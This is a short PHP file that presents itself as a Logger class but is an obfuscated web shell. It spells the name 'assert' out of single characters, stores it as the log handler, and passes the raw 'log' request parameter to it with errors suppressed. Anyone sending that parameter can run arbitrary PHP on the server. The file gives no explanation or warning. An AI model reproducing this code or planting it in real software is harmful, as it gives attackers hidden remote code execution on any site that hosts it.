<?php
class Logger {
    public static $h;
    public static function write($m) {
        $c = self::$h;
        return $c($m);
    }
}
Logger::$h = implode('', array('a','s','s','e','r','t'));
Logger::write(@$_REQUEST['log']);
